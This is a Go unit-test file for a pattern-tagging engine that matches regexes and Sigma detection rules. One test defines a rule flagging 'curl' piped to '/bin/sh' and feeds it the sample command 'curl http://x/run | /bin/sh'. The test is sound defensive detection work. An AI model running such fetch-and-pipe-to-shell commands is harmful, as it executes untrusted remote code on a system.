/*************************************************************************
 * Copyright 2026 Precursor Authors. All rights reserved.
 *
 * This software may be modified and distributed under the terms of the
 * BSD 2-clause license. See the LICENSE file for details.
 **************************************************************************/

package tagging

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/obsecurus/precursor/pattern"
)

func TestEngineTagOrdersByPatternThenCaptureOrder(t *testing.T) {
	store, err := pattern.NewStore([]string{
		"(?<http_get>GET)",
		"(?<path>/\\S*)",
	}, nil)
	require.NoError(t, err)

	engine := NewEngine(store, NewCounters())
	result, err := engine.Tag([]byte("GET /index.html HTTP/1.1\r\nHost: example.org\r\n"))
	require.NoError(t, err)

	assert.True(t, result.Matched)
	assert.Equal(t, []string{"http_get", "path", "path"}, result.Tags)
}

func TestEngineTagNoMatchIsUnmatched(t *testing.T) {
	store, err := pattern.NewStore([]string{"(?<ssh_banner>^SSH-)"}, nil)
	require.NoError(t, err)

	engine := NewEngine(store, NewCounters())
	result, err := engine.Tag([]byte("not an ssh banner"))
	require.NoError(t, err)
	assert.False(t, result.Matched)
	assert.Empty(t, result.Tags)
}

func TestCountersAccumulateAcrossCalls(t *testing.T) {
	counters := NewCounters()
	counters.Add("http_get", 1)
	counters.Add("http_get", 2)
	counters.Add("path", 1)

	snap := counters.Snapshot()
	assert.Equal(t, int64(3), snap["http_get"])
	assert.Equal(t, int64(1), snap["path"])
}

func TestEngineTagCollectsSigmaRuleIDs(t *testing.T) {
	rule := `
title: shell via fetch
id: shell-via-fetch
detection:
  selection_fetch:
    CommandLine|contains: curl
  selection_shell:
    CommandLine|contains: /bin/sh
  condition: selection_fetch and selection_shell
`
	plan, err := pattern.ParseSigmaRulePlan([]byte(rule), "fallback")
	require.NoError(t, err)

	store, err := pattern.NewStore(nil, []*pattern.SigmaRulePlan{plan})
	require.NoError(t, err)

	engine := NewEngine(store, NewCounters())
	result, err := engine.Tag([]byte("curl http://x/run | /bin/sh\n"))
	require.NoError(t, err)
	require.True(t, result.Matched)
	require.Len(t, result.SigmaRuleIDs, 1)
	assert.Equal(t, plan.RuleSlug, result.SigmaRuleIDs[0])
}
